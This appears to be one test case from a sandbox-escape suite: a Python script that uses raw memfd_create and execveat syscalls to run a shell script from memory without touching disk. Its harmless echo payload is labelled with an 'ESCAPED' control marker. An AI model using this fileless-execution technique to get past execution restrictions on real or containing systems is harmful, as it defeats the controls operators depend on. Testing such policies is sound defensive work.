#: title: memfd_create + execveat
#: breaks: fileless execution
#: severity: critical
#: arch: x86_64
#: status: ok
#: control: ESCAPED
import ctypes, os
L = ctypes.CDLL(None, use_errno=True)
S = L.syscall
S.restype = ctypes.c_long

fd = S(319, b"x", 0)
print("memfd", fd, ctypes.get_errno())
if fd >= 0:
    os.write(fd, b"#!/bin/sh\necho ESCAPED\n")
    argv = (ctypes.c_char_p * 2)(b"x", None); env = (ctypes.c_char_p * 1)(None)
    r = S(322, fd, b"", argv, env, 0x1000); print("refused", r, ctypes.get_errno())
